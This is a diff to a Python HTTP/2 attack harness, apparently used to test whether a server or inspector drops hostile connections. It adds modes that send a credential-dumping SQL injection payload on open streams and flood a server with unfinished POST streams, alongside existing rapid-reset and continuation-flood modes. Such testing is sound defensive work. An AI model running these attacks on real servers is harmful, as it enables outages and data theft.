@@ -1,5 +1,5 @@
 #!/usr/bin/python3
-"""h2attack.py rapid-reset|continuation-flood|split-preface HOST PORT [N]
+"""h2attack.py rapid-reset|continuation-flood|split-preface|open-query|open-body|open-flood HOST PORT [N]
 
 A raw-frame HTTP/2 attacker for tests: builds frames by hand (HPACK literal
 headers without indexing, no Huffman) and sends them to a real server.
@@ -10,7 +10,17 @@ headers without indexing, no Huffman) and sends them to a real server.
                       the rest and N requests for /index.html?split=I (a
                       server waits for the whole preface; an inspector
                       judging the connection by its first read must too)
+  open-query:         a GET whose HEADERS carry an SQL injection in the query
+                      and no END_STREAM; the stream stays open N seconds
+  open-body:          a form POST (content-length 100000) whose one DATA
+                      frame carries an SQL injection, never END_STREAM;
+                      open N seconds
+  open-flood:         after the server's SETTINGS, N POST streams (content-
+                      length 100000, no END_STREAM) left open, 3 seconds
+  The open-* modes print one JSON line: when the attack went out and when
+  (if ever) the server side cut the connection (time.monotonic).
 Bounded: N <= 100000, 10 s socket timeout."""
+import json
 import socket
 import struct
 import sys
@@ -43,11 +53,73 @@ def drain(s):
         pass
 
 
+SQLI = b"1' UNION SELECT username, password FROM users--"
+
+
+def hold(s, seconds, out):
+    """Read until the peer cuts us or the time is up; note when it cut."""
+    end = time.monotonic() + seconds
+    s.settimeout(0.05)
+    while time.monotonic() < end:
+        try:
+            if not s.recv(65536):
+                out["cut_at"] = time.monotonic()
+                out["error"] = "eof"
+                return
+        except socket.timeout:
+            continue
+        except OSError as e:
+            out["cut_at"] = time.monotonic()
+            out["error"] = type(e).__name__
+            return
+
+
+def post_block(host, path):
+    return (lit(b":method", b"POST") + lit(b":scheme", b"http") +
+            lit(b":path", path) + lit(b":authority", host) +
+            lit(b"content-type", b"application/x-www-form-urlencoded") +
+            lit(b"content-length", b"100000"))
+
+
+def open_mode(mode, s, host, n):
+    out = {"mode": mode, "attack_at": None, "cut_at": None}
+    s.sendall(PREFACE + frame(0x4, 0, 0))
+    s.sendall(frame(0x1, 0x5, 1, request_block(host, b"/up/warm")))  # benign, ended
+    time.sleep(0.3)  # the server's SETTINGS (its stream limit) come first
+    try:
+        if mode == "open-query":
+            path = b"/up/item?id=" + SQLI.replace(b" ", b"%20")
+            out["attack_at"] = time.monotonic()
+            s.sendall(frame(0x1, 0x4, 3, request_block(host, path)))  # END_HEADERS only
+            hold(s, n, out)
+        elif mode == "open-body":
+            s.sendall(frame(0x1, 0x4, 3, post_block(host, b"/up/form")))
+            time.sleep(0.2)
+            out["attack_at"] = time.monotonic()
+            s.sendall(frame(0x0, 0, 3, b"name=alice&q=" + SQLI.replace(b" ", b"+") + b"&x="))
+            hold(s, n, out)
+        else:  # open-flood
+            out["attack_at"] = time.monotonic()
+            for i in range(n):
+                sid = 3 + 2 * i
+                s.sendall(frame(0x1, 0x4, sid, post_block(host, b"/up/f%d" % i)) +
+                          frame(0x0, 0, sid, b"a=1"))
+            hold(s, 3, out)
+    except OSError as e:
+        out["cut_at"] = time.monotonic()
+        out["error"] = type(e).__name__
+    print(json.dumps(out), flush=True)
+
+
 def main():
     mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
     n = min(int(sys.argv[4]) if len(sys.argv) > 4 else 200, 100000)
     s = socket.create_connection((host, port), timeout=10)
     hb = request_block(host.encode())
+    if mode.startswith("open-"):
+        open_mode(mode, s, host.encode(), min(n, 10000))
+        s.close()
+        return
     if mode == "split-preface":
         s.sendall(PREFACE[:3])
         time.sleep(0.3)  # the server reads "PRI" on its own
